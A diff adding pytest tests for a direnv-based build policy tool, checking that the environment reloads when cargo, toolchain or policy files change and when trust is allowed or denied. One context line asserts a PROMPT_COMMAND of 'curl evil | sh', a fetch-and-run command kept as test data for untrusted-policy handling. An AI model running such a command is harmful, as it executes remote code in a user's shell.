@@ -96,3 +96,70 @@ def test_untrusted_policies_export_nothing_and_say_why(project, denv):
     subprocess.run([sys.executable, "-m", "buildpolicy", "allow", "-q"], cwd=project, env=denv, check=True)
     allowed = direnv("exec", str(project), "sh", "-c", 'printf %s "$PROMPT_COMMAND"', env=denv, cwd=project)
     assert allowed.stdout == "curl evil | sh"
+
+
+def _loaded(env: dict, cwd: Path) -> tuple[dict, bool]:
+    """One prompt under direnv: the shell's environment after it, and whether the .envrc ran again."""
+    proc = direnv("export", "json", env=env, cwd=cwd)
+    assert proc.returncode == 0, proc.stderr
+    return _apply(env, proc.stdout), "direnv: loading" in proc.stderr
+
+
+def _later(path: Path) -> None:
+    """Move ``path``'s mtime on by seconds: direnv compares whole seconds, a test runs within one."""
+    later = path.stat().st_mtime + 5
+    os.utime(path, (later, later))
+
+
+@pytest.mark.parametrize("change", [".cargo/config.toml", ".cargo/config", "rust-toolchain", "rust-toolchain.toml",
+                                    "new policy file", "user layer file", "cargo home config"])
+def test_envrc_reloads_on_every_file_env_reads(project, denv, change):
+    """The trap of issue 13 item 7: files `env` reads that the .envrc did not watch (cargo's
+    configuration, rust-toolchain, a policy file created after the glob was expanded) left
+    the shell with an environment from before the change."""
+    cargo_home = Path(denv["HOME"]) / "cargo-home"
+    env = dict(denv, CARGO_HOME=str(cargo_home))
+    (project / "Cargo.toml").write_text('[package]\nname = "demo"\nversion = "0.1.0"\n')
+    user_dir = Path(env["XDG_CONFIG_HOME"]) / "buildpolicy"
+    user_dir.mkdir(parents=True, exist_ok=True)
+    shell, loaded = _loaded(env, project)
+    assert loaded
+    shell, loaded = _loaded(shell, project)
+    assert not loaded, "nothing changed: no reload"
+    if change == "new policy file":
+        (project / "policies" / "zz-new.toml").write_text('[[rule]]\nid = "offline"\nenv = { CARGO_NET_OFFLINE = "true" }\n')
+        _later(project / "policies")
+    elif change == "user layer file":
+        (user_dir / "mine.toml").write_text("[knobs]\njobs = 1\n")
+        _later(user_dir)
+    elif change == "cargo home config":
+        cargo_home.mkdir()
+        (cargo_home / "config.toml").write_text("[build]\nrustflags = []\n")
+    else:
+        path = project / change
+        path.parent.mkdir(exist_ok=True)
+        path.write_text("[toolchain]\nchannel = \"stable\"\n" if "toolchain" in change else "[build]\nrustflags = []\n")
+    shell, loaded = _loaded(shell, project)
+    assert loaded, f"{change}: direnv did not reload"
+    if change == "new policy file":
+        assert shell["CARGO_NET_OFFLINE"] == "true"
+    if change == "user layer file":
+        assert shell["CARGO_BUILD_JOBS"] == "1"
+
+
+def test_envrc_reloads_after_allow_and_deny(project, denv):
+    """`buildpolicy allow` writes the trust record `env` reads: a refused project loads at
+    the next prompt without `direnv reload`, and `deny` unloads it again."""
+    policy = project / "policies" / "project.toml"
+    policy.write_text(policy.read_text() + '\n[[rule]]\nid = "hook"\nenv = { PROMPT_COMMAND = "echo hi" }\n')
+    shell, loaded = _loaded(denv, project)
+    assert loaded and "PROMPT_COMMAND" not in shell
+    shell, loaded = _loaded(shell, project)
+    assert not loaded
+    subprocess.run([sys.executable, "-m", "buildpolicy", "allow", "-q"], cwd=project, env=denv, check=True)
+    shell, loaded = _loaded(shell, project)
+    assert loaded and shell.get("PROMPT_COMMAND") == "echo hi"
+    subprocess.run([sys.executable, "-m", "buildpolicy", "deny", "-q"], cwd=project, env=denv, check=True)
+    _later(Path(denv["XDG_STATE_HOME"]) / "buildpolicy" / "trust")
+    shell, loaded = _loaded(shell, project)
+    assert loaded and "PROMPT_COMMAND" not in shell
